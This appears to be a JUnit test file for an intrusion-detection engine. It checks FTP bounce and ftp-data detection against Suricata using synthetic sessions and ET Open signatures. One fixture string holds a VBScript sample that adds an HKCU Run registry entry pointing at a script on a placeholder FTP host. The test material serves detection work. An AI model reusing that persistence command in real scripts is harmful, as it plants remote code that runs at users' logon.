package dev.rampart.engine.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.rampart.capture.synth.TcpSession;
import dev.rampart.capture.synth.Trace;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * {@code ftpbounce} end to end, each expectation an alert (sid, packet, transaction) of suricata
 * 7.0.10 on the same session. The banner is transaction 0 (the server's bytes came first, so the
 * parser gets them first when the client's command decides the protocol); a transaction is tested
 * once it is done, while PORT is the session's last command; the client's to-server packets carry
 * the tests (its acknowledgement of the reply, or its next data).
 */
class FtpDetectTest {
    private static final String[] RULES = {
        "alert tcp any any -> any any (msg:\"b\"; ftpbounce; sid:2;)",
        // ET Open sid 2103441's options: the payload keywords need PORT in the packet that carries the
        // test, which it never is (the test runs once the line was parsed): no alert, in both engines
        "alert tcp any any -> any 21 (flow:to_server,established; content:\"PORT\"; nocase; ftpbounce; "
                + "pcre:\"/^PORT/smi\"; sid:2103441;)"};

    /** A session: the banner, then client lines (String) and server replies (String[] of one). */
    private static Trace session(Object... steps) {
        Trace t = new Trace(1_700_000_000_000_000L, 1000);
        TcpSession s = new TcpSession(t, DetectHarness.CLIENT, 43001, DetectHarness.SERVER, 21, 1000, 5000).mss(1400)
                .handshake();
        s.serverSends(b("220 ftp ready\r\n"));
        for (Object o : steps) {
            if (o instanceof String c) {
                s.clientSends(b(c));
            } else {
                s.serverSends(b(((String[]) o)[0]));
            }
        }
        s.clientSends(b("QUIT\r\n")).serverSends(b("221 bye\r\n")).close();
        return t;
    }

    private static String[] reply(String r) {
        return new String[] {r};
    }

    private static byte[] b(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static List<String> run(Trace t) {
        DetectHarness h = new DetectHarness(RULES);
        assertEquals(List.of(), h.plan.skipped(), "ftpbounce loads");
        h.run(t);
        return h.txAlerts;
    }

    @Test
    void aBounceAlertsOnThePortTransactionOnceItsReplyCame() {
        assertEquals(List.of("2@17#3"), run(session("USER a\r\n", reply("331 p\r\n"), "PASS b\r\n", reply("230 ok\r\n"),
                "PORT 10,9,9,9,4,1\r\n", reply("200 ok\r\n"))));
    }

    @Test
    void theClientsOwnAddressIsNoBounce() {
        assertEquals(List.of(), run(session("USER a\r\n", reply("331 p\r\n"), "PORT 10,0,0,1,4,1\r\n", reply("200 ok\r\n"))));
    }

    @Test
    void everyDoneTransactionIsTestedWhilePortIsTheLastCommand() {
        // banner, USER and PORT are all done by the client's acknowledgement of the two replies (one
        // rule's alerts on a packet come newest transaction first, as Suricata sorts them)
        assertEquals(List.of("2@9#2", "2@9#1", "2@9#0"),
                run(session("USER a\r\nPORT 1,2,3,4,5,6\r\n", reply("331 p\r\n200 ok\r\n"))));
    }

    @Test
    void aPortWithoutItsReplyIsNotTested() {
        // the banner is (its test comes with the next client data, before that line was parsed); the
        // PORT transaction is done only after XYZ reset the last command
        assertEquals(List.of("2@8#0"), run(session("PORT 1,2,3,4,5,6\r\n", "XYZ\r\n", reply("200 ok\r\n"))));
        // the second PORT is done by QUIT's reply, with QUIT the last command
        assertEquals(List.of("2@9#1", "2@9#0"), run(session("PORT 1,2,3,4,5,6\r\n", reply("200 ok\r\n"), "NOOP\r\n",
                reply("200 ok\r\n"), "PORT 1,2,3,4,5,6\r\n")));
    }

    @Test
    void aLaterPortToAnotherHostAlertsItsOwnTransaction() {
        assertEquals(List.of("2@13#2"), run(session("PORT 10,0,0,1,4,1\r\n", reply("200 ok\r\n"), "PORT 9,9,9,9,4,1\r\n",
                reply("200 ok\r\n"))));
    }

    // ---- data connections (ftp-data); the sessions of the reference capture, each alone

    private static final String VBS = "Set x = CreateObject(\"WScript.Shell\")\r\nx.Run \"cmd /c reg add HKCU\\Run /d "
            + "ftp://abcdefgh.com/pay.vbs\"\r\nFILEDATA\r\n";
    private static final String[] DATA_RULES = {
        // ET Open sid 2034695's options
        "alert ftp-data any any -> any any (flow:established,to_client; content:\"CreateObject(|22|WScript.Shell|22|)\"; "
                + "content:\"reg add\"; nocase; fast_pattern; content:\"ftp://\"; distance:0; within:200; "
                + "pcre:\"/[a-z]{8}.[a-z]{3}/Ri\"; sid:2034695;)",
        "alert ftp-data any any -> any any (content:\"FILEDATA\"; sid:10;)",
        "alert ftp any any -> any any (content:\"FILEDATA\"; sid:12;)",
        "alert tcp any any -> any any (content:\"FILEDATA\"; sid:14;)"};

    private static TcpSession control(Trace t, int port) {
        TcpSession s = new TcpSession(t, DetectHarness.CLIENT, port, DetectHarness.SERVER, 21, 1000, 5000).mss(1400)
                .handshake();
        s.serverSends(b("220 ftp ready\r\n")).clientSends(b("USER a\r\n")).serverSends(b("331 p\r\n"))
                .clientSends(b("PASS b\r\n")).serverSends(b("230 ok\r\n"));
        return s;
    }

    private static List<String> runData(Trace t) {
        DetectHarness h = new DetectHarness(DATA_RULES);
        assertEquals(List.of(), h.plan.skipped(), "ftp-data rules load");
        h.run(t);
        return h.txAlerts.stream().sorted().toList();
    }

    @Test
    void aPassiveDownloadsConnectionIsFtpData() {
        Trace t = new Trace(1_700_000_000_000_000L, 1000);
        TcpSession s = control(t, 44001);
        s.clientSends(b("PASV\r\n")).serverSends(b("227 Entering Passive Mode (192,0,2,10,195,80).\r\n"));
        TcpSession d = new TcpSession(t, DetectHarness.CLIENT, 45001, DetectHarness.SERVER, 50000, 7000, 9000).mss(1400)
                .handshake();
        s.clientSends(b("RETR evil.vbs\r\n")).serverSends(b("150 opening\r\n"));
        d.serverSends(b(VBS)).close();
        s.serverSends(b("226 done\r\n")).clientSends(b("QUIT\r\n")).serverSends(b("221 bye\r\n")).close();
        // the reference: all three on the data server's FIN (the stream is inspected at the close);
        // an "ftp" rule does not apply to the data connection
        assertEquals(List.of("10@28", "14@28", "2034695@28"), runData(t));
    }

    @Test
    void anActiveDownloadsConnectionFromTheServerIsFtpData() {
        Trace t = new Trace(1_700_000_000_000_000L, 1000);
        TcpSession s = control(t, 44003);
        s.clientSends(b("PORT 10,0,0,1,195,81\r\n")).serverSends(b("200 ok\r\n")).clientSends(b("RETR a.vbs\r\n"))
                .serverSends(b("150 opening\r\n"));
        new TcpSession(t, DetectHarness.SERVER, 20, DetectHarness.CLIENT, 50001, 7000, 9000).mss(1400).handshake()
                .clientSends(b(VBS)).close();
        s.serverSends(b("226 done\r\n")).clientSends(b("QUIT\r\n")).serverSends(b("221 bye\r\n")).close();
        // the data flows to the data connection's server (the FTP client): not sid 2034695's to_client
        assertEquals(List.of("10@27", "14@27"), runData(t));
    }

    @Test
    void aDataConnectionNoTransferAnnouncedIsNotFtpData() {
        Trace t = new Trace(1_700_000_000_000_000L, 1000);
        TcpSession s = control(t, 44006);
        s.clientSends(b("PASV\r\n")).serverSends(b("227 Entering Passive Mode (192,0,2,10,195,100)\r\n"));
        new TcpSession(t, DetectHarness.CLIENT, 45006, DetectHarness.SERVER, 50020, 7000, 9000).mss(1400).handshake()
                .serverSends(b("FILEDATA y\r\n")).close();
        s.clientSends(b("QUIT\r\n")).serverSends(b("221 bye\r\n")).close();
        assertEquals(List.of("14@24"), runData(t));
    }

    @Test
    void aTransferWithoutADataPortEndsTheParser() {
        // Suricata's parser errors on the RETR; the PORT bounce after it is not seen
        assertEquals(List.of(), run(session("RETR c.txt\r\n", reply("425 no\r\n"), "PORT 9,9,9,9,4,1\r\n",
                reply("200 ok\r\n"))));
    }

    /**
     * An accepted AUTH TLS leaves the flow FTP (suricata 7.0.10 did not hand it to TLS: its handshake
     * bytes went to "ftp" raw-stream rules, at the client's FIN); the client's first data, AUTH TLS after
     * a vsftpd banner decided the flow, is not FTP's: app-layer-protocol:ftp matches the server's side only.
     */
    @Test
    void authTlsStaysFtpAndTheClientsSideIsFailed() {
        Trace t = new Trace(1_700_000_000_000_000L, 1000);
        new TcpSession(t, DetectHarness.CLIENT, 46001, DetectHarness.SERVER, 21, 1000, 5000).mss(1400).handshake()
                .serverSends(b("220 (vsFTPd 3.0.3)\r\n")).clientSends(b("AUTH TLS\r\n"))
                .serverSends(b("234 Proceed with negotiation.\r\n")).clientSends(b("\u0016\u0003\u0001\u0000\u0005hello"))
                .serverSends(b("\u0016\u0003\u0003\u0000\u0005world")).close();
        DetectHarness h = new DetectHarness(
                "alert ftp any any -> any any (flow:established,to_server; content:\"|16 03|\"; sid:3;)",
                "alert tls any any -> any any (flow:established,to_server; content:\"|16 03|\"; sid:2;)",
                "alert ftp any any -> any any (flow:established,to_server; content:\"AUTH TLS\"; sid:6;)",
                "alert tcp any any -> any any (app-layer-protocol:ftp; sid:8;)");
        h.run(t);
        assertEquals(List.of("3@14", "6@14", "8@7"), h.txAlerts.stream().sorted().toList());
    }
}
